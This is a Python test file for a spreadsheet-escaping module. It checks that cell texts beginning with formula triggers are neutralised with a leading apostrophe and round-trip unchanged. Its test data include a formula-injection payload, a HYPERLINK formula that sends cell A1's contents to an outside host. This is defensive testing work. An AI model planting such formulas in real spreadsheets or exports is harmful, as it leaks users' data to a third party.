"""Sheets that people fill in hold no formula, and every text comes back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gainsay.foundation.sheets import cell_of_text, text_of_cell

FORMULAS = [
    "=HYPERLINK(\"http://elsewhere/?\"&A1)", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "\uff1d1+1", "'=1+1", "''@x",
]  # fmt: skip
PLAIN = ["a dog", "", "2 = 2", "'", "'quoted'", "it's -1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text: str) -> None:
    assert cell_of_text(text) == f"'{text}"
    assert text_of_cell(cell_of_text(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_a_text_stays_as_it_is(text: str) -> None:
    assert cell_of_text(text) == text == text_of_cell(text)


@given(st.text(st.sampled_from("'=+-@\t\r ab\uff1d"), max_size=6))
def test_every_text_comes_back(text: str) -> None:
    assert text_of_cell(cell_of_text(text)) == text
    assert cell_of_text(text)[:1] not in tuple("=+-@\t\r\uff1d")
